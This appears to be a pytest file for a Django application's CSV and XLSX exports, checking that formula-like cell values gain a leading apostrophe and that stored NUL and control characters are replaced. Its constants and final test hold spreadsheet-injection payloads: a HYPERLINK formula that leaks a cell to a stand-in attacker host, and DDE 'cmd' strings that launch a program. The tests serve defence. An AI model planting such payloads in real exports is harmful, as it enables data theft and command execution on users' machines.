"""Exports survive what is stored and never hand a spreadsheet a formula (issue 10, "Bad input").

The findings: a NUL in a title made the XLSX export a 0-byte file and a proposal's XLSX export a
500; CSV exports wrote ``=HYPERLINK(...)`` and ``+cmd|...`` verbatim. Records written before input
validation refused control characters may still hold them, so these tests store them directly.
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.db import connection
from openpyxl import load_workbook

from svidok.common.cells import csv_cell, xlsx_cell
from svidok.forensics.views import _claim_csv
from svidok.incidents.models import Incident
from svidok.sanctions import dossier
from svidok.sanctions import services as proposals
from svidok.sanctions.models import ProposalMember
from tests import factories
from tests.helpers import login

pytestmark = pytest.mark.django_db

# PostgreSQL cannot store NUL at all (the finding is SQLite's); another control character breaks
# XLSX the same way.
NUL = "\x00" if connection.vendor == "sqlite" else "\x01"
HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_starting_like_a_formula_gets_an_apostrophe(value):
    assert (csv_cell(value), xlsx_cell(value)) == ("'" + value, "'" + value)


def test_numbers_and_plain_text_stay_as_they_are():
    assert [csv_cell(v) for v in (-3, 2.5, "Teacher - dismissed", "")] == [-3, 2.5, "Teacher - dismissed", ""]


def test_xlsx_cell_replaces_what_xml_cannot_hold():
    assert xlsx_cell("a\x00b\x1bc\ud800d\ttab\nline") == "a\ufffdb\ufffdc\ufffdd\ttab\nline"


@pytest.fixture
def hostile(coordinator):
    """One incident whose title and narrative are formulas, one whose title holds a NUL (stored
    as an older version of Svidok let it be)."""
    formula = factories.incident(coordinator, title=HYPERLINK, narrative=CMD, victim_count=3)
    nul = factories.incident(coordinator, title="Teacher dismissed")
    Incident.objects.filter(pk=nul.pk).update(title=f"Teacher{NUL} dismissed\x1b")
    return formula, nul


def export(tmp_path, fmt):
    path = tmp_path / f"export.{fmt}"
    call_command("export", "--format", fmt, "--output", str(path))
    return path


def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path, hostile):
    rows = list(csv.DictReader(export(tmp_path, "csv").open(encoding="utf-8", newline="")))

    formula = next(r for r in rows if r["reference"] == hostile[0].reference)
    stored = next(r for r in rows if r["reference"] == hostile[1].reference)
    assert stored["title"] == "Teacher\ufffd dismissed\ufffd"
    assert (formula["title"], formula["narrative"], formula["victim_count"]) == ("'" + HYPERLINK, "'" + CMD, "3")


def test_xlsx_export_of_a_stored_nul_is_a_readable_workbook_without_formulas(tmp_path, hostile):
    path = export(tmp_path, "xlsx")

    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    by_reference = {row[header.index("reference")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_reference[hostile[1].reference]["title"] == "Teacher\ufffd dismissed\ufffd"
    assert by_reference[hostile[0].reference]["title"] == "'" + HYPERLINK
    assert by_reference[hostile[0].reference]["victim_count"] == "3"  # as the CSV has it: the importer reads both
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def proposal(coordinator):
    organization = factories.organization(coordinator)
    created = proposals.create_proposal(actor=coordinator, title="Organizers of the vote")
    member = proposals.add_member(actor=coordinator, proposal=created, organization=organization, grounds=CMD)
    ProposalMember.objects.filter(pk=member.pk).update(grounds=f"Chaired{NUL} the commission\x0b")
    return created


def test_proposal_xlsx_export_with_a_stored_nul_answers_200_with_a_readable_workbook(client, coordinator, proposal):
    login(client, coordinator)

    response = client.get(f"/people/proposals/{proposal.uuid}/export/xlsx/")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][rows[0].index("grounds")] == "Chaired\ufffd the commission\ufffd"


def test_proposal_csv_export_neutralises_a_formula(coordinator, proposal):
    member = proposal.members.get()
    ProposalMember.objects.filter(pk=member.pk).update(grounds=CMD)
    output = io.StringIO()

    dossier.write_csv(proposal, coordinator, output)

    rows = list(csv.DictReader(io.StringIO(output.getvalue())))
    assert rows[0]["grounds"] == "'" + CMD


def test_forensics_claim_csv_neutralises_a_formula_in_an_imported_region_name():
    response = _claim_csv([{"region": "=cmd|' /C calc'!A0", "tik": "-2+3", "uik": "1", "registered": 1000,
                            "ballots_issued": 700, "turnout": 0.7, "fictitious": 0, "share": 0.5}])

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert (rows[0]["region"], rows[0]["tik"], rows[0]["registered"]) == ("'=cmd|' /C calc'!A0", "'-2+3", "1000")
